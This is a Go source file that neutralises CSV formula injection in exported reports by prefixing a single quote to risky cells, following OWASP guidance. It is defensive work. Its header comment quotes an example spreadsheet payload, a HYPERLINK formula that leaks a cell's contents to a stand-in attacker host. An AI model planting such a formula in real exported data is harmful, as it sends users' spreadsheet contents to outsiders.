package roi

import (
	"encoding/csv"
	"io"
)

// CSV injection (formula injection). A spreadsheet that opens a CSV file
// (Excel, LibreOffice Calc, Google Sheets) reads a cell that starts with
// "=", "+", "-" or "@" as a formula, and a leading tab or carriage return
// can hide such a start: a scenario name such as
// =HYPERLINK("http://evil.example/?leak="&A1,"x"), from a share link or an
// imported file, would become a live link that sends the sheet away.
//
// The rule is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection):
// a cell that starts with =, +, -, @, tab (0x09) or carriage return (0x0D)
// gets a single quote ' in front, which spreadsheets read as "this cell is
// text" (and do not show), and the cell is quoted with doubled double
// quotes whenever CSV needs it (encoding/csv does that). Refinements:
//
//   - A plain decimal number ("-12.50", "-3", "+5") is left alone: it is a
//     number, not a formula, and a report's negative figures must stay
//     numbers.
//   - A leading NUL (0x00) is neutralised too, as OWASP's ASVS (V1.2.10,
//     formula injection) lists it with the others.
//   - Stricter than OWASP's list: a cell whose first character other than
//     blanks (space, tab, CR, LF, form feed, vertical tab, NUL) is one of
//     = + - @ is neutralised too (" =1+1"), because Google Sheets and
//     LibreOffice's "Trim spaces" import option drop leading blanks before
//     reading the cell.
//
// A cell that already starts with ' is left as it is (it is text already),
// so SafeCSVCell is idempotent.

// SafeCSVCell returns s as a CSV cell that no spreadsheet reads as a
// formula: s itself, or s with a single quote in front.
func SafeCSVCell(s string) string {
	if csvFormulaLike(s) {
		return "'" + s
	}
	return s
}

// csvFormulaLike reports whether a spreadsheet could take the cell s for a
// formula (see SafeCSVCell).
func csvFormulaLike(s string) bool {
	if s == "" {
		return false
	}
	if s[0] == '\t' || s[0] == '\r' || s[0] == 0 {
		return true
	}
	i := 0
	for i < len(s) && isCSVBlank(s[i]) {
		i++
	}
	if i == len(s) {
		return false
	}
	switch s[i] {
	case '=', '@':
		return true
	case '+', '-':
		return i > 0 || !isPlainDecimal(s)
	}
	return false
}

func isCSVBlank(c byte) bool {
	return c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\f' || c == '\v' || c == 0
}

// isPlainDecimal reports whether s is an optional sign, digits, and
// optionally a point and more digits: "-12.50", "+3", "0.5". Nothing else
// (no spaces, exponents, grouping or a second sign).
func isPlainDecimal(s string) bool {
	if s != "" && (s[0] == '+' || s[0] == '-') {
		s = s[1:]
	}
	intPart, frac, hasPoint := cutByte(s, '.')
	return allDigits(intPart) && (!hasPoint || allDigits(frac))
}

func cutByte(s string, b byte) (before, after string, found bool) {
	for i := 0; i < len(s); i++ {
		if s[i] == b {
			return s[:i], s[i+1:], true
		}
	}
	return s, "", false
}

// allDigits reports whether s is one or more ASCII digits.
func allDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// safeCSVWriter is a csv.Writer whose every cell goes through SafeCSVCell.
type safeCSVWriter struct {
	w    *csv.Writer
	cell []string
}

func newSafeCSVWriter(w io.Writer) *safeCSVWriter {
	return &safeCSVWriter{w: csv.NewWriter(w)}
}

// Write writes one record, every cell neutralised.
func (s *safeCSVWriter) Write(record []string) error {
	s.cell = s.cell[:0]
	for _, c := range record {
		s.cell = append(s.cell, SafeCSVCell(c))
	}
	return s.w.Write(s.cell)
}

func (s *safeCSVWriter) Flush()       { s.w.Flush() }
func (s *safeCSVWriter) Error() error { return s.w.Error() }
